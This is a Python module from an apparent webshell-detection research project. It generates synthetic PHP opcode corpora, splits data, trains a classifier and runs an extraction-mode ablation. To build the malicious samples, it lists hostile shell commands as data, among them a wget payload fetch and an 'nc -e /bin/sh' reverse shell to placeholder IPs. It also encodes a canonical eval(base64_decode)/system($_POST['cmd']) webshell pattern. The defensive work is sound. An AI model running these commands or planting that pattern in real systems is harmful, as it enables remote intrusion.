"""Splitting, synthetic corpora, end-to-end pipeline runs and the ODT/OST ablation."""

from __future__ import annotations

import base64
import csv
import io
import logging
import warnings
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Callable, Optional, Sequence
from urllib.parse import quote

import numpy as np

from . import fasttext as ft
from .config import RunConfig, SplitSpec
from .errors import EmptyDataset, SequenceTooLong, TooFewSamples
from .fusion import History, TrainedModel, evaluate, grid_search_lambda, train
from .metrics import Metrics, compute_metrics
from .odt import Label, Mode, TokenSequence, extract_sequence
from .opdump import FunctionUnit, MAIN, Operand, OperandKind, OpcodeDump, OpLine, parse_dump, serialize_dump

log = logging.getLogger(__name__)

__all__ = [
    "Sample",
    "SplitSpec",
    "split_dataset",
    "split_indices",
    "gen_corpus",
    "canonical_malicious",
    "write_corpus",
    "read_corpus",
    "extract_corpus",
    "fit_pipeline",
    "run_ablation",
    "AblationReport",
    "metrics_csv",
    "metrics_table",
    "opcode_overlap",
]


@dataclass(frozen=True)
class Sample:
    source_id: str
    dump: OpcodeDump
    label: Label

    def __iter__(self):
        # unpacks as the (dump, label) pair
        yield self.dump
        yield self.label


# --- splitting ------------------------------------------------------------------

def _allocate(n: int, ratios) -> list[int]:
    counts = [int(np.floor(n * r + 1e-9)) for r in ratios]
    counts[int(np.argmax(ratios))] += n - sum(counts)
    return counts


def _default_label(sample):
    label = getattr(sample, "label", None)
    if label is None and isinstance(sample, tuple):
        label = sample[-1]
    return int(label)


def split_indices(labels: Sequence[int], spec: SplitSpec) -> tuple[list, list, list]:
    n = len(labels)
    if n < 3:
        raise TooFewSamples("need at least 3 samples to split")
    rng = np.random.default_rng(spec.seed)
    parts: list[list[int]] = [[], [], []]
    if spec.stratified:
        classes = sorted(set(int(x) for x in labels))
        if len(classes) < 2:
            raise TooFewSamples("stratified split needs both classes")
        for c in classes:
            members = [i for i, y in enumerate(labels) if int(y) == c]
            members = [members[j] for j in rng.permutation(len(members))]
            pos = 0
            for k, count in enumerate(_allocate(len(members), spec.ratios)):
                parts[k].extend(members[pos : pos + count])
                pos += count
    else:
        perm = [int(i) for i in rng.permutation(n)]
        pos = 0
        for k, count in enumerate(_allocate(n, spec.ratios)):
            parts[k] = perm[pos : pos + count]
            pos += count
    # every split gets at least one sample
    for k in (1, 2):
        if not parts[k] and len(parts[0]) > 1:
            parts[k].append(parts[0].pop())
    return tuple([int(i) for i in rng.permutation(p)] if p else [] for p in (sorted(q) for q in parts))


def split_dataset(samples: Sequence, spec: SplitSpec = SplitSpec(), label_of: Optional[Callable] = None):
    """Deterministic (train, val, test) partition; stratified by label when requested."""
    samples = list(samples)
    label_of = label_of or _default_label
    idx = split_indices([label_of(s) for s in samples], spec)
    return tuple([samples[i] for i in part] for part in idx)


# --- synthetic corpus -------------------------------------------------------------

_WORDS = (
    "home about contact login logout welcome user profile settings search results page "
    "title header footer menu item price cart order total name email address city news "
    "blog post comment archive category tag image gallery upload download help faq terms"
).split()
_BENIGN_FUNCS = (
    "strlen htmlspecialchars date count str_replace trim implode explode sprintf in_array "
    "array_keys json_encode intval strtolower ucfirst number_format isset_or substr time"
).split()
_USER_FUNCS = "render_header render_footer format_price load_config get_user build_menu".split()
_INCLUDES = "header.php footer.php config.php lib/db.php templates/layout.php vendor/autoload.php".split()
_SUPERGLOBALS = "_GET _POST _SERVER _SESSION _COOKIE".split()
_BAD_FUNCS = tuple("system exec assert shell_exec passthru popen proc_open".split())
_COMMANDS = ("whoami", "id", "uname -a", "cat /etc/passwd", "ls -la /var/www", "wget http://198.51.100.7/x.sh",
             "nc -e /bin/sh 203.0.113.5 4444", "chmod 777 shell.php")
_PAYLOAD_CHARS = np.array(list("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789$_()[];=.,'\"{}<>?!+-*/%&|^~ "))

_S = OperandKind.CONST_STRING
_N = OperandKind.NAME


class _DumpBuilder:
    def __init__(self):
        self.units: list[tuple[str, list]] = [(MAIN, [])]
        self.line = 1
        self.tmp = 0

    def temp(self, sigil="~"):
        self.tmp += 1
        return Operand({"~": OperandKind.TEMP_VAR, "$": OperandKind.VAR}[sigil], f"{sigil}{self.tmp}")

    def emit(self, opcode, operands=(), result=None, unit=0):
        self.units[unit][1].append((self.line, opcode, tuple(operands), result))

    def new_line(self):
        self.line += 1

    def n_ops(self):
        return sum(len(ops) for _, ops in self.units)

    def build(self) -> OpcodeDump:
        funcs = []
        for name, ops in self.units:
            if ops:
                funcs.append(FunctionUnit(name, [OpLine(line, i, op, operands, result)
                                                 for i, (line, op, operands, result) in enumerate(ops)]))
        return OpcodeDump(tuple(funcs))


def _cv(rng) -> Operand:
    return Operand(OperandKind.COMPILED_VAR, f"!{int(rng.integers(0, 12))}")


def _pick(rng, seq):
    return seq[int(rng.integers(len(seq)))]


def _word(rng) -> str:
    return _pick(rng, _WORDS)


def _text(rng, lo, hi) -> str:
    return " ".join(_word(rng) for _ in range(int(rng.integers(lo, hi + 1))))


_STATEMENTS = ("echo", "assign", "concat", "call", "include", "branch", "fetch", "rope", "html", "user")
_STATEMENT_CDF = np.cumsum([0.14, 0.14, 0.1, 0.26, 0.04, 0.1, 0.07, 0.05, 0.05, 0.05])[:-1]
_REQUEST_KEYS = ("cmd", "c", "x", "pass", "z0", "code", "e")
_TAINT_SOURCES = ("_POST", "_REQUEST", "_COOKIE")


def _payload_b64(rng) -> str:
    n = int(rng.integers(80, 240))
    text = "".join(_PAYLOAD_CHARS[rng.integers(0, len(_PAYLOAD_CHARS), n)])
    blob = base64.b64encode(text.encode()).decode()
    if rng.random() < 0.3:
        blob = base64.b64encode(blob.encode()).decode()
    return blob


def _hidden(rng, text: str) -> str:
    if rng.random() < 0.5:
        return base64.b64encode(text.encode()).decode()
    return "".join(f"%{ord(c):02x}" for c in text)


def _call(b, rng, unit, fname, args, sink=None):
    b.emit("INIT_FCALL", [Operand(_N, fname)], unit=unit)
    for a in args:
        b.emit("SEND_VAL" if a.kind is _S else "SEND_VAR", [a], unit=unit)
    r = b.temp("$")
    b.emit("DO_ICALL", [], r, unit=unit)
    if sink is None:
        sink = rng.random() < 0.5
    if sink:
        b.emit("ASSIGN", [_cv(rng), r], unit=unit)
    else:
        b.emit("ECHO", [r], unit=unit)
    return r


def _statement(b: _DumpBuilder, rng, unit=0, evil: float = 0.0, kind=None):
    """Emit one source statement.

    With probability ``evil`` a call, include, fetch or user-call statement is
    swapped for a malicious counterpart with the same opcode shape, so only
    operands tell the two apart.
    """
    b.new_line()
    if rng.random() < 0.6:
        b.emit("EXT_STMT", unit=unit)
    if kind is None:
        kind = _STATEMENTS[int(np.searchsorted(_STATEMENT_CDF, rng.random(), side="right"))]
    bad = rng.random() < evil
    if kind == "echo":
        b.emit("ECHO", [Operand(_S, _text(rng, 1, 4))], unit=unit)
    elif kind == "assign":
        if rng.random() < 0.5:
            value = Operand(_S, _text(rng, 1, 3))
        else:
            value = Operand(OperandKind.CONST_NUMBER, str(int(rng.integers(0, 1000))))
        b.emit("ASSIGN", [_cv(rng), value], unit=unit)
    elif kind == "concat":
        t = b.temp()
        b.emit("CONCAT", [_cv(rng), Operand(_S, _text(rng, 1, 2))], t, unit=unit)
        b.emit("ASSIGN", [_cv(rng), t], unit=unit)
    elif kind == "call":
        n_args = int(rng.integers(1, 3))
        if bad:
            fname = _pick(rng, _BAD_FUNCS + ("base64_decode", "base64_decode"))
            args = [Operand(_S, _payload_b64(rng)) if rng.random() < 0.6 else _cv(rng) for _ in range(n_args)]
        else:
            fname = _pick(rng, _BENIGN_FUNCS)
            args = [Operand(_S, _text(rng, 1, 2)) if rng.random() < 0.6 else _cv(rng) for _ in range(n_args)]
        _call(b, rng, unit, fname, args)
    elif kind == "include":
        if bad:
            target, how = _cv(rng), "EVAL"
        else:
            target = Operand(_S, _pick(rng, _INCLUDES))
            how = _pick(rng, ["INCLUDE", "REQUIRE_ONCE", "INCLUDE_ONCE"])
        b.emit("INCLUDE_OR_EVAL", [target, Operand(_N, how)], b.temp("$"), unit=unit)
    elif kind == "branch":
        t = b.temp()
        b.emit("IS_EQUAL", [_cv(rng), Operand(_S, _word(rng))], t, unit=unit)
        b.emit("JMPZ", [t, Operand(OperandKind.CONST_NUMBER, str(int(rng.integers(1, 400))))], unit=unit)
    elif kind == "fetch":
        t = b.temp("$")
        src = _pick(rng, _TAINT_SOURCES) if bad else _pick(rng, _SUPERGLOBALS)
        b.emit("FETCH_R", [Operand(_N, src)], t, unit=unit)
        t2 = b.temp()
        key = _pick(rng, _REQUEST_KEYS) if bad else _word(rng)
        b.emit("FETCH_DIM_R", [t, Operand(_S, key)], t2, unit=unit)
        b.emit("ASSIGN", [_cv(rng), t2], unit=unit)
    elif kind == "rope":
        t = b.temp()
        b.emit("ROPE_INIT", [Operand(_S, _word(rng) + " ")], t, unit=unit)
        b.emit("ROPE_ADD", [t, _cv(rng)], t, unit=unit)
        b.emit("ROPE_END", [t, Operand(_S, "!")], b.temp(), unit=unit)
    elif kind == "html":
        words = " ".join(f"<{_word(rng)} class=\"{_word(rng)}\">{_word(rng)}</{_word(rng)}>" for _ in range(4))
        b.emit("ECHO", [Operand(_S, words)], unit=unit)
    else:
        if bad:
            b.emit("INIT_FCALL_BY_NAME", [Operand(_S, _hidden(rng, _pick(rng, _BAD_FUNCS)))], unit=unit)
            b.emit("SEND_VAL", [Operand(_S, _hidden(rng, _pick(rng, _COMMANDS)))], unit=unit)
        else:
            b.emit("INIT_FCALL_BY_NAME", [Operand(_N, _pick(rng, _USER_FUNCS))], unit=unit)
            b.emit("SEND_VAR", [_cv(rng)], unit=unit)
        b.emit("DO_FCALL", [], b.temp("$"), unit=unit)
    if rng.random() < 0.03:
        b.emit("NOP", unit=unit)


def _eval_payload(b: _DumpBuilder, rng, payload: str):
    """``eval(base64_decode('...'))``: the motif every webshell carries at least once."""
    b.new_line()
    r = _call(b, rng, 0, "base64_decode", [Operand(_S, payload)], sink=True)
    b.new_line()
    b.emit("INCLUDE_OR_EVAL", [r, Operand(_N, "EVAL")], b.temp("$"))


def _gen_dump(rng, malicious: bool) -> OpcodeDump:
    n_ops = int(rng.integers(20, 401))
    b = _DumpBuilder()
    evil = float(rng.uniform(0.3, 0.8)) if malicious else 0.0
    if rng.random() < 0.25:
        b.units.append((_pick(rng, _USER_FUNCS), []))
        for _ in range(int(rng.integers(2, 6))):
            _statement(b, rng, unit=1, evil=evil)
        b.new_line()
        b.emit("RETURN", [Operand(OperandKind.CONST_NUMBER, "1")], unit=1)
    body_target = n_ops - 1
    # the forced motif lands early enough that tail truncation cannot reach it
    motif_at = int(rng.integers(0, max(1, body_target - b.n_ops() - 12))) if malicious else -1
    while b.n_ops() < body_target:
        if 0 <= motif_at <= len(b.units[0][1]):
            motif_at = -1
            _eval_payload(b, rng, _payload_b64(rng))
            continue
        _statement(b, rng, evil=evil)
    excess = b.n_ops() - body_target
    if excess > 0:
        del b.units[0][1][-excess:]
    b.new_line()
    b.emit("RETURN", [Operand(OperandKind.CONST_NUMBER, "1")])
    return b.build()


CANONICAL_MALICIOUS = (
    '#odump 1\n'
    'fn (main)\n'
    '2\t0\tINIT_FCALL\tbase64_decode\t\n'
    "2\t1\tSEND_VAL\t'djhpdENCLSwqIGhtP2hvcSpHeHBQMCczfmpSWTlhc1BmXjUsVTFGRGxzPU57eig/e3RIeSwnTnlmeW5nLlFeeEkrM3pIPUdSU1FSfHYrcmhDdzVxcy0iWCpIZ31oRlA5'\t\n"
    '2\t2\tDO_ICALL\t\t$0\n'
    '2\t3\tINCLUDE_OR_EVAL\t$0|EVAL\t$1\n'
    '3\t4\tFETCH_R\t_POST\t$2\n'
    "3\t5\tFETCH_DIM_R\t$2|'cmd'\t~3\n"
    '3\t6\tINIT_FCALL\tsystem\t\n'
    '3\t7\tSEND_VAR\t~3\t\n'
    '3\t8\tDO_ICALL\t\t$4\n'
    '4\t9\tRETURN\t1\t\n'
)


def canonical_malicious() -> OpcodeDump:
    """``eval(base64_decode(...))`` followed by ``system($_POST['cmd'])``."""
    return parse_dump(CANONICAL_MALICIOUS)


def gen_corpus(seed: int, n_benign: int, n_malicious: int) -> list[Sample]:
    """Deterministic synthetic corpus of opcode dumps.

    Benign files are ordinary script-like instruction streams of 20-400
    instructions. Webshells are the same kind of stream in which a share of
    the statements is swapped for malicious lookalikes with identical opcode
    shape, plus one ``eval(base64_decode(...))`` placed at a random offset.
    The class signal lives in operands, so an opcode-only view sees
    near-identical instruction mixes.
    """
    if n_benign < 1 or n_malicious < 1:
        raise ValueError("need at least one sample of each class")
    rng = np.random.default_rng(seed)
    labels = [Label.BENIGN] * n_benign + [Label.WEBSHELL] * n_malicious
    order = rng.permutation(len(labels))
    samples = []
    for pos, i in enumerate(order):
        label = labels[int(i)]
        dump = _gen_dump(rng, label is Label.WEBSHELL)
        samples.append(Sample(f"sample_{pos:05d}", dump, label))
    return samples


def opcode_overlap(samples: Sequence) -> float:
    """One minus the total-variation distance between class-conditional opcode unigrams."""
    hist = [dict(), dict()]
    for s in samples:
        dump, label = tuple(s)[-2:]
        h = hist[int(label)]
        for op in dump.iter_ops():
            h[op.opcode] = h.get(op.opcode, 0) + 1
    keys = sorted(set(hist[0]) | set(hist[1]))
    p = np.array([hist[0].get(k, 0) for k in keys], dtype=np.float64)
    q = np.array([hist[1].get(k, 0) for k in keys], dtype=np.float64)
    p /= p.sum()
    q /= q.sum()
    return float(1.0 - 0.5 * np.abs(p - q).sum())


def write_corpus(samples: Sequence[Sample], out_dir) -> None:
    """``<source_id>.odump`` per sample plus ``labels.csv`` (source_id,label)."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    with open(out / "labels.csv", "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["source_id", "label"])
        for s in samples:
            (out / f"{s.source_id}.odump").write_text(serialize_dump(s.dump), encoding="utf-8")
            w.writerow([s.source_id, int(s.label)])


def read_labels(path) -> dict:
    with open(path, newline="", encoding="utf-8") as fh:
        return {row["source_id"]: Label(int(row["label"])) for row in csv.DictReader(fh)}


def read_corpus(corpus_dir) -> list[Sample]:
    d = Path(corpus_dir)
    labels = read_labels(d / "labels.csv")
    return [Sample(sid, parse_dump((d / f"{sid}.odump").read_text(encoding="utf-8")), label)
            for sid, label in labels.items()]


# --- pipeline -------------------------------------------------------------------------

def extract_corpus(samples: Sequence[Sample], cfg: RunConfig, mode: Optional[Mode] = None) -> list[TokenSequence]:
    mode = Mode(mode or cfg.mode)
    return [extract_sequence(s.dump, cfg.rules, cfg.decode, mode, s.label, s.source_id) for s in samples]


@dataclass
class PipelineResult:
    model: TrainedModel
    history: History
    test_metrics: Metrics
    splits: tuple


def fit_pipeline(seqs: Sequence[TokenSequence], cfg: RunConfig, embed: Optional[ft.EmbeddingModel] = None) -> PipelineResult:
    """Split, fit the embedder on the training part, train the classifier, score the test part."""
    seqs = list(seqs)
    if not seqs:
        raise EmptyDataset("no samples")
    too_long = [s.source_id for s in seqs if len(s) > cfg.encoder.max_len]
    if too_long:
        raise SequenceTooLong(f"{len(too_long)} sequences exceed encoder.max_len, e.g. {too_long[0]}")
    train_set, val_set, test_set = split_dataset(seqs, cfg.split)
    if embed is None:
        embed = ft.train_skipgram(train_set, cfg.embed)
    model, history = train(train_set, embed, cfg.encoder, cfg.fusion, cfg.train, val=val_set)
    return PipelineResult(model, history, evaluate(model, test_set), (train_set, val_set, test_set))


@dataclass
class AblationReport:
    odt: Metrics
    ost: Metrics

    @property
    def delta(self) -> float:
        return self.odt.accuracy - self.ost.accuracy

    def to_csv(self) -> str:
        return metrics_csv({"odt": self.odt, "ost": self.ost})

    def to_table(self) -> str:
        return metrics_table({"odt": self.odt, "ost": self.ost}) + f"accuracy delta (odt - ost): {self.delta:+.4f}\n"


def run_ablation(corpus: Sequence[Sample], cfg: RunConfig = RunConfig(), modes=(Mode.ODT, Mode.OST)) -> AblationReport:
    """Train the same pipeline twice, differing only in extraction mode."""
    corpus = list(corpus)
    if not corpus:
        raise EmptyDataset("empty corpus")
    first, second = (Mode(m) for m in modes)
    if first is second:
        warnings.warn("ablation modes are identical; the delta is 0 by construction", stacklevel=2)
    results = {}
    for mode in dict.fromkeys((first, second)):
        results[mode] = fit_pipeline(extract_corpus(corpus, cfg, mode), cfg).test_metrics
        log.info("ablation %s: %s", mode.value, results[mode].as_dict())
    return AblationReport(results[first], results[second])


def metrics_csv(rows: dict) -> str:
    buf = io.StringIO()
    buf.write("mode,accuracy,precision,recall,f1\n")
    for name, m in rows.items():
        buf.write(f"{name},{m.accuracy:.6f},{m.precision:.6f},{m.recall:.6f},{m.f1:.6f}\n")
    return buf.getvalue()


def metrics_table(rows: dict) -> str:
    lines = [f"{'mode':<6} {'accuracy':>9} {'precision':>9} {'recall':>9} {'f1':>9}"]
    for name, m in rows.items():
        lines.append(f"{name:<6} {m.accuracy:>9.4f} {m.precision:>9.4f} {m.recall:>9.4f} {m.f1:>9.4f}")
    return "\n".join(lines) + "\n"


def lambda_search(seqs: Sequence[TokenSequence], cfg: RunConfig, candidates=None):
    """Grid search over the fusion weight on the configured train/val split."""
    train_set, val_set, _ = split_dataset(list(seqs), cfg.split)
    embed = ft.train_skipgram(train_set, cfg.embed)
    return grid_search_lambda(candidates or cfg.lambda_grid, train_set, val_set, embed,
                              cfg.encoder, cfg.fusion, cfg.train)
